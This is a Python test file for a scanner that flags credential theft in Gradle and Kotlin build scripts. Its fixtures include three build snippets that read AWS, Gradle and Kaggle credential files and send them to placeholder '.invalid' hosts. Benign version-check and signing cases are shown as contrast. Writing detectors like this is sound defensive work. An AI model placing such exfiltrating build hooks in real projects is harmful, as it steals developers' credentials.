"""Gradle, Kotlin and Java build code read by the light line reader: a secret joined into the URL
a request asks for, or written to a connection's output stream, is sent. Hosts are ``.invalid``."""

from __future__ import annotations

from pathlib import Path

import pytest

from behaviour_files import scan_errors


@pytest.mark.parametrize(
    ("rel", "script"),
    [
        (
            "build.gradle.kts",
            'val props = File(System.getProperty("user.home"), ".gradle/gradle.properties").readText()\n'
            'tasks.register("warm") {\n'
            '    doLast { URL("https://cache.build-warm.invalid/p?x=$props").readText() }\n}\n',
        ),
        (
            "android/app/build.gradle",
            'def creds = new File(System.getenv("HOME") + "/.aws/credentials").text\n'
            'def ping = "https://metrics.build-warm.invalid/v?c=${creds}".toURL().text\n',
        ),
        (
            "buildSrc/src/main/kotlin/Sync.kt",
            'val cfg = File(System.getProperty("user.home") + "/.kaggle/kaggle.json").readText()\n'
            'val conn = URL("https://sync.build-warm.invalid/u").openConnection()\n'
            "conn.doOutput = true\n"
            "conn.outputStream.write(cfg.toByteArray())\n",
        ),
    ],
)
def test_a_secret_a_build_script_puts_into_a_request_is_sent(tmp_path: Path, rel: str, script: str) -> None:
    errors = scan_errors(tmp_path, {rel: script})
    assert any(rule == "CREDENTIAL_EXFILTRATION" for rule, _, _ in errors)


@pytest.mark.parametrize(
    "script",
    [
        # a version check with a constant URL, and one with a project property
        'def latest = new URL("https://api.build-warm.invalid/latest").text\n',
        'def v = project.version\ndef ok = new URL("https://api.build-warm.invalid/check?v=" + v).text\n',
        # the user's Gradle properties read for the build's own signing, never sent
        'def p = new Properties()\np.load(new File(System.getProperty("user.home"), ".gradle/gradle.properties")'
        ".newInputStream())\nsigning { useInMemoryPgpKeys(p.signingKey, p.signingPassword) }\n",
    ],
)
def test_ordinary_build_requests_stay_quiet(tmp_path: Path, script: str) -> None:
    errors = scan_errors(tmp_path, {"build.gradle": script})
    assert not any(rule == "CREDENTIAL_EXFILTRATION" for rule, _, _ in errors)
